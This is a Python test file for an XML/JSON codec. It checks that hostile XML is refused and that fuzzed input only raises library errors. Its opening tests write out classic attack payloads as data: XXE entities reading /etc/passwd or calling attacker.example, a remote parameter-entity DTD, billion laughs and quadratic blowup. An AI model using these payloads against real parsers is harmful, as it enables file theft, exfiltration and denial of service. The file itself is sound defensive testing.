"""Hostile input: the classic XML attacks are refused with UnsafeXmlError, limits hold,
and no input whatsoever makes a reader fail with anything but an SsbxError."""

from __future__ import annotations

import contextlib
import copy
import io
from typing import Any

import pytest
from codec_support import PERSON, edit_element, minimal_case, positions, rich_case
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ssbx_model.codec import NAMESPACE, Limits
from ssbx_model.codec import json as cj
from ssbx_model.codec import xml as cx
from ssbx_model.errors import SsbxError, UnsafeXmlError, XmlSyntaxError

_OPEN = f'<case xmlns="{NAMESPACE}" schemaVersion="1.0.0">'
_FIELDS = f"<person>{PERSON.reveal()}</person><municipality>1287</municipality>"


def _with_dtd(dtd: str, body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{dtd}\n{_OPEN}{body}</case>'.encode()


def _read_every_way(data: bytes, limits: Limits | None = None) -> list[type[BaseException]]:
    """The error type each XML reader raises for ``data``."""
    raised: list[type[BaseException]] = []
    readers: list[Any] = [
        lambda: cx.loads(data, limits=limits or Limits()),
        lambda: cx.loads_many(data, limits=limits or Limits()),
        lambda: list(cx.iter_cases(io.BytesIO(data), limits=limits or Limits())),
    ]
    for read in readers:
        with pytest.raises(SsbxError) as info:
            read()
        raised.append(type(info.value))
    return raised


def test_xxe_reading_a_local_file_is_refused() -> None:
    data = _with_dtd(
        '<!DOCTYPE case [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        f"<person>{PERSON.reveal()}</person><municipality>&xxe;</municipality>",
    )
    assert _read_every_way(data) == [UnsafeXmlError] * 3


def test_xxe_over_the_network_is_refused() -> None:
    data = _with_dtd(
        '<!DOCTYPE case [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>',
        f"<person>{PERSON.reveal()}</person><municipality>&xxe;</municipality>",
    )
    assert _read_every_way(data) == [UnsafeXmlError] * 3


def test_parameter_entities_with_an_external_dtd_are_refused() -> None:
    data = _with_dtd(
        '<!DOCTYPE case [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
        _FIELDS,
    )
    assert _read_every_way(data) == [UnsafeXmlError] * 3


def test_billion_laughs_is_refused() -> None:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    ]
    data = _with_dtd(
        f"<!DOCTYPE case [{''.join(entities)}]>",
        f"<person>{PERSON.reveal()}</person><municipality>&lol9;</municipality>",
    )
    assert _read_every_way(data) == [UnsafeXmlError] * 3


def test_quadratic_blowup_is_refused() -> None:
    big = "A" * 50_000
    data = _with_dtd(
        f'<!DOCTYPE case [<!ENTITY a "{big}">]>',
        f"<person>{PERSON.reveal()}</person><municipality>{'&a;' * 5_000}</municipality>",
    )
    assert _read_every_way(data) == [UnsafeXmlError] * 3


def test_an_external_dtd_is_refused() -> None:
    data = _with_dtd('<!DOCTYPE case SYSTEM "http://attacker.example/case.dtd">', _FIELDS)
    assert _read_every_way(data) == [UnsafeXmlError] * 3
    local = _with_dtd('<!DOCTYPE case SYSTEM "file:///etc/passwd">', _FIELDS)
    assert _read_every_way(local) == [UnsafeXmlError] * 3


def test_a_harmless_looking_doctype_is_refused_too() -> None:
    assert _read_every_way(_with_dtd("<!DOCTYPE case>", _FIELDS)) == [UnsafeXmlError] * 3


def test_deep_nesting_beyond_the_limit_is_refused() -> None:
    depth = 70
    nested = "<reference>" + "<x>" * depth + "</x>" * depth + "</reference>"
    data = _with_dtd("", _FIELDS + nested)
    assert _read_every_way(data) == [UnsafeXmlError] * 3
    very_deep = "<x>" * 100_000 + "</x>" * 100_000
    assert _read_every_way(_with_dtd("", _FIELDS + very_deep)) == [UnsafeXmlError] * 3


def test_a_huge_text_node_is_refused() -> None:
    data = _with_dtd("", _FIELDS + "<reference>" + "a" * 2_000_000 + "</reference>")
    assert _read_every_way(data) == [UnsafeXmlError] * 3
    beyond_libxml2 = _with_dtd("", _FIELDS + "<reference>" + "a" * 11_000_000 + "</reference>")
    assert _read_every_way(beyond_libxml2) == [UnsafeXmlError] * 3


def test_the_text_limit_is_configurable() -> None:
    data = cx.dumps(rich_case())
    assert cx.loads(data, limits=Limits(max_text_length=100)) == rich_case()
    with pytest.raises(UnsafeXmlError, match="max_text_length"):
        cx.loads(data, limits=Limits(max_text_length=10))


def test_documents_and_streamed_cases_beyond_the_size_limits_are_refused() -> None:
    data = cx.dumps(rich_case())
    with pytest.raises(UnsafeXmlError, match="max_bytes"):
        cx.loads(data, limits=Limits(max_bytes=len(data) - 1))
    many = cx.dumps_many([minimal_case(), rich_case()])
    small = Limits(max_case_bytes=2_000)
    with pytest.raises(UnsafeXmlError, match="max_case_bytes"):
        list(cx.iter_cases(io.BytesIO(many), limits=small))
    assert list(cx.iter_cases(io.BytesIO(many))) == [minimal_case(), rich_case()]


def test_undeclared_entities_are_malformed_xml() -> None:
    with pytest.raises(XmlSyntaxError, match="not defined") as info:
        cx.loads(_with_dtd("", _FIELDS + "<reference>&ent;</reference>"))
    assert info.value.line == 3  # the declaration, the empty DTD line, then the case


def test_comments_processing_instructions_and_cdata_carry_no_data() -> None:
    data = _with_dtd(
        "<!-- a comment --><?pi data?>",
        _FIELDS.replace("1287", "12<!-- x -->8<?y z?>7") + "<reference><![CDATA[a<b]]></reference>",
    )
    case = cx.loads(data)
    assert case.municipality == "1287"
    assert case.reference == "a<b"


# -- no crash but an SsbxError -------------------------------------------------------------

_JSON_SEED = cj.dumps(rich_case())
_XML_SEED = cx.dumps(rich_case())
_XML_MANY_SEED = cx.dumps_many([minimal_case(), rich_case()], pretty=True)


def _mutated(seed: bytes) -> st.SearchStrategy[bytes]:
    @st.composite
    def mutate(draw: st.DrawFn) -> bytes:
        data = bytearray(seed)
        for _ in range(draw(st.integers(1, 4))):
            kind = draw(st.sampled_from(["flip", "delete", "insert", "splice"]))
            at = draw(st.integers(0, max(len(data) - 1, 0)))
            if kind == "flip" and data:
                data[at] = draw(st.integers(0, 255))
            elif kind == "delete":
                del data[at : at + draw(st.integers(1, 40))]
            elif kind == "insert":
                data[at:at] = draw(
                    st.sampled_from(
                        [
                            b"<",
                            b">",
                            b"&",
                            b"\x00",
                            b'"',
                            b"{",
                            b"[",
                            b"null",
                            b"<x>",
                            b"</value>",
                            b"<!DOCTYPE x>",
                            b"&amp;",
                            b"\\u0000",
                            b"1e999",
                            b"-0",
                            b",",
                            b"\xff",
                        ]
                    )
                )
            else:
                end = draw(st.integers(at, len(data)))
                piece = bytes(data[at:end])
                where = draw(st.integers(0, len(data)))
                data[where:where] = piece
        return bytes(data)

    return mutate()


def _only_ssbx_errors(read: Any, data: bytes) -> None:
    with contextlib.suppress(SsbxError):
        read(data)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_random_bytes_never_crash_a_reader(data: bytes) -> None:
    for read in (cj.loads, cj.loads_many, cx.loads, cx.loads_many):
        _only_ssbx_errors(read, data)
    _only_ssbx_errors(lambda d: list(cx.iter_cases(io.BytesIO(d))), data)
    _only_ssbx_errors(lambda d: list(cj.iter_cases(io.BytesIO(d))), data)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(_mutated(_JSON_SEED))
def test_mutated_json_never_crashes_a_reader(data: bytes) -> None:
    _only_ssbx_errors(cj.loads, data)
    _only_ssbx_errors(cj.loads_many, data)
    _only_ssbx_errors(lambda d: list(cj.iter_cases(io.BytesIO(d + b"\n" + d))), data)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(_mutated(_XML_SEED))
def test_mutated_xml_never_crashes_a_reader(data: bytes) -> None:
    _only_ssbx_errors(cx.loads, data)
    _only_ssbx_errors(lambda d: list(cx.iter_cases(io.BytesIO(d))), data)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(_mutated(_XML_MANY_SEED))
def test_mutated_many_case_xml_never_crashes_a_reader(data: bytes) -> None:
    _only_ssbx_errors(cx.loads_many, data)
    _only_ssbx_errors(lambda d: list(cx.iter_cases(io.BytesIO(d))), data)


@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow])
@given(_mutated(_JSON_SEED))
def test_the_reader_never_accepts_what_the_explaining_pass_refuses(data: bytes) -> None:
    """Whatever a reader accepts, the explaining pass alone accepts too, with the same case."""
    from ssbx_model.codec import _json_read

    try:
        case = cj.loads(data)
    except SsbxError:
        return
    import json as stdjson

    problems: list[Any] = []
    raw = stdjson.loads(data, object_pairs_hook=_json_read.strict_pairs)["case"]
    assert _json_read.read_case_detailed(raw, "case", problems) == case
    assert problems == []


_JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=12)
    | st.sampled_from(
        ["known", "2024-01-01", "2024-01-01T00:00:00Z", PERSON.reveal(), "556036-0793"]
    ),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["status", "value", "period", "start", "end", "name", "x"]),
            inner,
            max_size=3,
        )
    ),
    max_leaves=8,
)


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_any_json_value_anywhere_is_an_ssbx_error_or_a_case(data: st.DataObject) -> None:
    import json as stdjson

    from ssbx_model.codec import _json_read

    document = stdjson.loads(_JSON_SEED)
    spots = positions(document, [])
    for _ in range(data.draw(st.integers(1, 3))):
        if not spots:
            break
        container, key = data.draw(st.sampled_from(spots))
        if data.draw(st.booleans()) or isinstance(container, list):
            container[key] = data.draw(_JSON_VALUES)
        else:
            container.pop(key, None)
        spots = positions(document, [])
    text = stdjson.dumps(document, ensure_ascii=False).encode()
    try:
        case = cj.loads(text)
    except SsbxError:
        return
    problems: list[Any] = []
    raw = stdjson.loads(text)["case"]
    assert _json_read.read_case_detailed(raw, "case", problems) == case


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_any_element_edit_is_an_ssbx_error_or_a_case(data: st.DataObject) -> None:
    from lxml import etree

    from ssbx_model.codec import _xml_read

    root = etree.fromstring(_XML_SEED)
    texts = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x2FF), max_size=12)
    tails = st.sampled_from([" ", "\n  ", "x", "\u00a0"])
    for _ in range(data.draw(st.integers(1, 3))):
        edit_element(data.draw, root, texts, tails)
    text = etree.tostring(root)
    try:
        case = cx.loads(text)
    except SsbxError:
        return
    problems: list[Any] = []
    parsed = etree.fromstring(text)
    assert _xml_read.read_case_detailed(parsed, "case", problems, root=True) == case
    assert problems == []


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_any_element_edit_of_a_many_case_document_reads_alike_whole_and_streamed(
    data: st.DataObject,
) -> None:
    from lxml import etree

    root = etree.fromstring(_XML_MANY_SEED)
    elements = list(root.iter())
    tags = sorted({e.tag for e in elements})
    for _ in range(data.draw(st.integers(1, 3))):
        if len(elements) < 2:
            break  # every case was removed: nothing is left to edit
        el = data.draw(st.sampled_from(elements[1:]))
        edit = data.draw(st.sampled_from(["rename", "remove", "copy", "text"]))
        if edit == "rename":
            el.tag = data.draw(st.sampled_from([*tags, "junk", "{urn:other}case"]))
        elif edit == "remove" and (parent := el.getparent()) is not None:
            parent.remove(el)
        elif edit == "copy" and el.getparent() is not None:
            el.addnext(copy.deepcopy(el))
        else:
            el.text = data.draw(st.sampled_from(["", "x", "2024-01-01", "true", "known"]))
        elements = list(root.iter())
    text = etree.tostring(root)
    try:
        whole: list[Any] | None = cx.loads_many(text)
    except SsbxError:
        whole = None
    streamed = list(cx.iter_results(io.BytesIO(text)))
    if whole is None:
        assert any(isinstance(r, SsbxError) for r in streamed) or not streamed
    else:
        assert streamed == whole
